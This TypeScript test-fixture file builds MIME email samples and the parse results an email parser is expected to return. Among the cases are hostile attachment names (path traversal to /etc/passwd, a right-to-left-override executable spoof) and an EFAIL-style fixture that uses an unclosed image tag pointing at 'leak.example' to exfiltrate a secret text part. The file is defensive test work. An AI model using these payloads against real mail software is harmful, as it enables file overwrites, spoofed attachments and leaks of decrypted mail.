import { base64Part, bytesOf, htmlPart, mail, multipart, part, PNG, textPart } from './mail-making.ts';
import type { MailShape } from '../mail-shapes.ts';

const inner = (subject: string, body = 'Inner text.\r\n'): Buffer =>
  Buffer.from(`From: Inner <inner@sender.example>\r\nTo: x@y.example\r\nSubject: ${subject}\r\n\r\n${body}`);

/** Mails within mails, reports, signatures, attachments of every kind. */
export function structureShapes(): MailShape[] {
  const attachment = (name: string, type = 'application/octet-stream'): Buffer =>
    base64Part(
      Buffer.from(`content of ${name}`),
      `Content-Type: ${type}`,
      `Content-Disposition: attachment; filename="${name}"`,
    );
  const mixed = (subject: string, ...parts: readonly Buffer[]): Buffer =>
    mail(
      [`Subject: ${subject}`, 'Content-Type: multipart/mixed; boundary="=_mix"'],
      multipart('=_mix', textPart('See below.'), ...parts),
    );
  return [
    {
      name: 'attachments-of-three-kinds',
      bytes: mixed('Files', attachment('a.pdf', 'application/pdf'), attachment('b.docx'), attachment('c.zip')),
      expected: { text: 'See below.', attachments: ['a.pdf', 'b.docx', 'c.zip'] },
    },
    {
      name: 'attachment-without-name',
      bytes: mixed('Nameless', base64Part(PNG, 'Content-Type: image/png', 'Content-Disposition: attachment')),
      expected: { attachments: ['attachment-2.png'] },
    },
    {
      name: 'text-and-html-as-attachments-only',
      bytes: mail(
        ['Subject: Scripts', 'Content-Type: multipart/mixed; boundary=mix'],
        multipart(
          'mix',
          part(['Content-Type: text/plain', 'Content-Disposition: attachment; filename=notes.txt'], 'not the body'),
          part(['Content-Type: text/html', 'Content-Disposition: attachment; filename=page.html'], '<p>nor this</p>'),
          textPart('The body.'),
        ),
      ),
      expected: { text: 'The body.', html: null, attachments: ['notes.txt', 'page.html'] },
    },
    {
      name: 'attachment-names-rfc2231',
      bytes: mixed(
        'RFC 2231',
        base64Part(
          Buffer.from('x'),
          'Content-Type: application/pdf',
          "Content-Disposition: attachment;\r\n filename*0*=utf-8''R%C3%B8d;\r\n filename*1*=gr%C3%B8d;\r\n filename*2=.pdf",
        ),
        base64Part(
          Buffer.from('y'),
          'Content-Type: application/pdf; name="=?iso-8859-1?Q?=C6ble.pdf?="',
          'Content-Disposition: attachment',
        ),
      ),
      expected: { attachments: ['Rødgrød.pdf', 'Æble.pdf'] },
    },
    {
      name: 'attachment-names-hostile',
      bytes: mixed(
        'Names',
        attachment('../../etc/passwd'),
        attachment('C:\\\\Windows\\\\evil.exe'),
        attachment('invoice\u202Efdp.exe'),
        attachment(`${'x'.repeat(400)}.pdf`),
        attachment('CON.txt'),
        attachment('...'),
      ),
      expected: {
        attachments: ['passwd', 'evil.exe', 'invoicefdp.exe', `${'x'.repeat(76)}.pdf`, '_CON.txt', 'attachment-7.bin'],
      },
    },
    {
      name: 'forwarded-as-attachment',
      bytes: mixed(
        'Fwd',
        part(
          ['Content-Type: message/rfc822; name="Old mail.eml"', 'Content-Disposition: attachment'],
          inner('The old one'),
        ),
      ),
      expected: { text: 'See below.', nested: ['The old one'] },
    },
    {
      name: 'forwarded-in-base64',
      bytes: mixed('Fwd', base64Part(inner('Encoded whole'), 'Content-Type: message/rfc822')),
      expected: { nested: ['Encoded whole'] },
    },
    {
      name: 'nested-three-deep',
      bytes: mixed(
        'Deep',
        part(
          ['Content-Type: message/rfc822'],
          bytesOf(
            'Subject: Middle\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=m2\r\n\r\n',
            multipart('m2', htmlPart('<p>Middle HTML</p>'), part(['Content-Type: message/rfc822'], inner('Innermost'))),
          ),
        ),
      ),
      expected: { nested: ['Middle'] },
    },
    {
      name: 'mail-that-is-a-mail',
      bytes: mail(['Subject: Wrapper', 'Content-Type: message/rfc822'], inner('Wrapped')),
      expected: { subject: 'Wrapper', nested: ['Wrapped'] },
    },
    {
      name: 'digest',
      bytes: mail(
        ['Subject: Digest', 'Content-Type: multipart/digest; boundary=dig'],
        multipart(
          'dig',
          part([], inner('First')),
          part([], inner('Second')),
          part(['Content-Type: text/plain'], 'A table of contents'),
        ),
      ),
      expected: { nested: ['First', 'Second'], text: 'A table of contents' },
    },
    {
      name: 'delivery-report',
      bytes: mail(
        ['Subject: Undelivered', 'Content-Type: multipart/report; report-type=delivery-status; boundary=dsn'],
        multipart(
          'dsn',
          textPart('It could not be delivered.'),
          part(
            ['Content-Type: message/delivery-status'],
            'Reporting-MTA: dns; mx.example\r\n\r\nFinal-Recipient: rfc822; x@y.example\r\nStatus: 5.1.1\r\n',
          ),
          part(['Content-Type: message/rfc822'], inner('The returned one')),
        ),
      ),
      expected: { text: 'Status: 5.1.1', nested: ['The returned one'] },
    },
    {
      name: 'read-receipt',
      bytes: mail(
        ['Subject: Read', 'Content-Type: multipart/report; report-type=disposition-notification; boundary=mdn'],
        multipart(
          'mdn',
          textPart('It was read.'),
          part(
            ['Content-Type: message/disposition-notification'],
            'Disposition: manual-action/MDN-sent-manually; displayed\r\n',
          ),
        ),
      ),
      expected: { text: 'Disposition: manual-action', attachments: [] },
    },
    {
      name: 'tnef',
      bytes: mixed(
        'From Outlook',
        base64Part(Buffer.from('789f3e22', 'hex'), 'Content-Type: application/ms-tnef; name="winmail.dat"'),
      ),
      expected: { attachments: ['winmail.dat'] },
    },
    {
      name: 'calendar-invitation',
      bytes: mail(
        ['Subject: Meeting', 'Content-Type: multipart/alternative; boundary=cal'],
        multipart(
          'cal',
          textPart('You are invited.'),
          htmlPart('<p>You are invited.</p>'),
          part(['Content-Type: text/calendar; method=REQUEST; charset=utf-8'], 'BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n'),
        ),
      ),
      expected: { text: 'You are invited.', html: 'You are invited.', attachments: ['attachment-3.ics'] },
    },
    {
      name: 'smime-signed',
      bytes: mail(
        [
          'Subject: Signed',
          'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary=sig',
        ],
        multipart(
          'sig',
          textPart('Signed text.'),
          base64Part(
            Buffer.from('sig'),
            'Content-Type: application/pkcs7-signature; name=smime.p7s',
            'Content-Disposition: attachment; filename=smime.p7s',
          ),
        ),
      ),
      expected: { text: 'Signed text.', attachments: ['smime.p7s'] },
    },
    {
      name: 'smime-enveloped',
      bytes: mail(
        [
          'Subject: Enveloped',
          'Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m',
          'Content-Transfer-Encoding: base64',
        ],
        Buffer.from('MIAGCSqGSIb3DQ==\r\n'),
      ),
      expected: { attachments: ['smime.p7m'], html: null },
    },
    {
      name: 'pgp-encrypted',
      bytes: mail(
        ['Subject: PGP', 'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=pgp'],
        multipart(
          'pgp',
          part(['Content-Type: application/pgp-encrypted'], 'Version: 1\r\n'),
          part(['Content-Type: application/octet-stream; name=encrypted.asc'], '-----BEGIN PGP MESSAGE-----\r\n'),
        ),
      ),
      expected: { attachments: ['attachment-1.asc', 'encrypted.asc'] },
    },
    {
      name: 'pdf-as-whole-body',
      bytes: mail(
        ['Subject: Scan', 'Content-Type: application/pdf; name=scan.pdf', 'Content-Transfer-Encoding: base64'],
        Buffer.from('JVBERi0xLjc=\r\n'),
      ),
      expected: { attachments: ['scan.pdf'] },
    },
    {
      name: 'uuencoded-part',
      bytes: mixed(
        'UU',
        part(
          ['Content-Type: application/octet-stream; name=cat.txt', 'Content-Transfer-Encoding: x-uuencode'],
          'begin 644 cat.txt\r\n#0V%T\r\n`\r\nend\r\n',
        ),
      ),
      expected: { attachments: ['cat.txt'] },
    },
    {
      name: 'two-html-parts-one-cut-open',
      bytes: mail(
        ['Subject: EFAIL', 'Content-Type: multipart/mixed; boundary=mix'],
        multipart(
          'mix',
          htmlPart('<img src="http://leak.example/'),
          textPart('the secret'),
          htmlPart('<p>">after</p>'),
        ),
      ),
      expected: { text: 'the secret' },
    },
    {
      name: 'headers-in-abundance',
      bytes: mail(
        [
          ...Array.from(
            { length: 60 },
            (_, hop) =>
              `Received: from mx${hop}.example by mx${hop + 1}.example; Tue, 24 Nov 2026 09:30:${String(hop).padStart(2, '0')} +0100`,
          ),
          'Subject: Travelled far',
        ],
        'Here.\r\n',
      ),
      expected: { subject: 'Travelled far', text: 'Here.' },
    },
    {
      name: 'many-recipients',
      bytes: mail(
        [
          'Subject: All',
          `Cc: ${Array.from({ length: 300 }, (_, at) => `"Person ${at}" <p${at}@many.example>`).join(',\r\n ')}`,
        ],
        'Hi all.\r\n',
      ),
      expected: { text: 'Hi all.' },
    },
    {
      name: 'one-large-attachment',
      bytes: mixed(
        'Large',
        base64Part(Buffer.alloc(3_000_000, 'segl'), 'Content-Type: application/zip; name=large.zip'),
      ),
      expected: { attachments: ['large.zip'] },
    },
  ];
}
